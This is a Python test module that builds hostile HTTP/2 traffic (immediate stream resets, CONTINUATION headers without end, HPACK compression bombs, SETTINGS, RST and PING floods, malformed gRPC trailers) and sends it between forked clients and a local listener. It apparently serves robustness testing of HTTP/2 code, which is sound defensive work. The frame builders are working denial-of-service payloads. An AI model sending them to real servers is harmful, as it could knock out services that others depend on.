"""HTTP/2 that is hostile by itself: streams that are reset at once, headers without an end, packed bombs, floods."""
import random
import struct

from attack import connected, fork, listener, over, reap, serve, tried

random.seed(5)
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


HEAD = b"\x83\x86\x84\x41\x01h"  # POST http / h
# A large entry of the table, and then one byte for each time it is wanted.
BOMB = b"\x40\x01k\x7f\xa1\x1e" + b"v" * 4000 + b"\xbe" * 8000


def connections():
    yield [frame(1, 5, 2 * i + 1, HEAD) + frame(3, 0, 2 * i + 1, b"\0\0\0\x08") for i in range(3000)]
    yield [frame(1, 0, 1, HEAD)] + [frame(9, 0, 1, b"\x40\x02x%c\x02yy" % (97 + i % 26)) for i in range(5000)]
    yield [frame(1, 5, 2 * i + 1, HEAD + BOMB) for i in range(20)]
    yield [frame(4, 0, 0, struct.pack(">HI", random.randrange(8), random.getrandbits(32)) * 20) for _ in range(500)]
    yield [frame(6, 0, 0, bytes(8)) for _ in range(5000)]
    yield [b"\x3f\xe1\xff\xff\xff\xff\x0f"] + [frame(1, 4, 1, b"\x3f\xe1\xff\xff\xff\xff\x0f" + HEAD)]
    yield [frame(1, 4, 2 * i + 1, HEAD + b"\x00\x7f\xff\xff\xff\xff\xff\x0fname") for i in range(50)]
    yield [frame(1, 4, 1, HEAD + b"\x00\x0ccontent-type\x10application/grpc")] + [frame(0, 0, 1, random.randbytes(900)) for _ in range(300)] + [
        frame(1, 5, 1, b"\x00\x0bgrpc-status\x7f" + b"9" * 127 + b"\x00\x0cgrpc-message\x7f\xa1\x1e" + b"%" * 4000)
    ] * 50
    yield [frame(random.randrange(12), random.randrange(256), random.getrandbits(31), random.randbytes(200)) for _ in range(500)]
    yield [struct.pack(">I", 0xFFFFFF)[1:] + b"\0\0\0\0\0\1" + random.randbytes(20_000)]


def client(port):
    while not over():
        for frames in connections():
            peer = connected(port)
            peer.settimeout(0.05)
            tried(peer.sendall, PREFACE + frame(4, 0, 0))
            for each in frames:
                if tried(peer.sendall, each) is not None:
                    break
            tried(peer.recv, 1 << 16)
            peer.close()


answers = [b"".join(each)[:20_000] for each in connections()]
listening = listener()
serve(listening, lambda data: frame(4, 0, 0) + random.choice(answers))
reap([fork(client, listening.getsockname()[1]) for _ in range(2)])
